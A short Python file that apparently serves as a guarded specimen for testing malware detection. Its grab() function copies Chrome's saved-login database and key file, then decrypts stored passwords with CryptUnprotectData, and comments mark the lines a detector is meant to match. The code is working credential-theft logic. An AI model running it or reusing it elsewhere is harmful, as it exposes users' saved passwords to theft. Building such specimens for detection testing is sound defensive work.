raise SystemExit("specimen: not to be run")
import os
import shutil
import sqlite3
import win32crypt

def grab():
    base = os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data"  # match: browser-data
    key = open(base + "\\Local State").read()  # match: browser-data
    shutil.copy2(base + "\\Default\\Login Data", "a.db")  # match: browser-data
    rows = sqlite3.connect("a.db").execute("SELECT origin_url, username_value, password_value FROM logins")
    return [win32crypt.CryptUnprotectData(row[2], None, None, None, 0) for row in rows], key
